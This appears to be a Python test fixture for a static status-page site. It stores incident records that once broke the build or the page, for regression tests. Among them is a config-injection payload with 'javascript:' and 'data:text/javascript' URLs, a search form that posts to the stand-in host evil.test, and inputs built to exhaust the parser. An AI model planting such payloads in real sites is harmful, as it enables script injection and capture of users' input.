"""Records that `incidents validate` accepts and that once broke the build or the page.

Shared by tests/site_build/test_build_survives.py and the browser tests.
"""

from __future__ import annotations

from siteroot import MAINT_UPCOMING, POSTMORTEM, RESOLVED, STANDARD

# The theme reads its configuration with querySelector("#__config"): a body that defines it
# would run script on the status page, without a click.
CONFIG_INJECTION = (
    '<p id="__config">{"base": "javascript:alert(1)//", "features": [], '
    '"search": "data:text/javascript,alert(2)", "translations": {}}</p>\n'
    '<div class="md-search" data-md-component="search" name="x" style="color:red">'
    '<form action="https://evil.test/"><input name="q"></form></div>\n'
)

DEEP_LIST = "".join("    " * i + "- level\n" for i in range(260))

HOSTILE_RECORDS = dict(
    STANDARD,
    **{
        # a vertical tab in a title (lxml refuses it in the feeds)
        "incidents/2026/INC-2026-0001.md": RESOLVED.replace(
            "title: Database failover", 'title: "Database \\v failover \\x01"'
        ),
        "incidents/2026/INC-2026-0001.postmortem.md": POSTMORTEM.replace(
            "status: published", "status: published\nvisibility: public"
        )
        + "\n"
        + DEEP_LIST,
        "incidents/maintenance/MNT-2026-0002.md": MAINT_UPCOMING + "\n" + CONFIG_INJECTION,
    },
)

PATHOLOGICAL = "[" * 20000
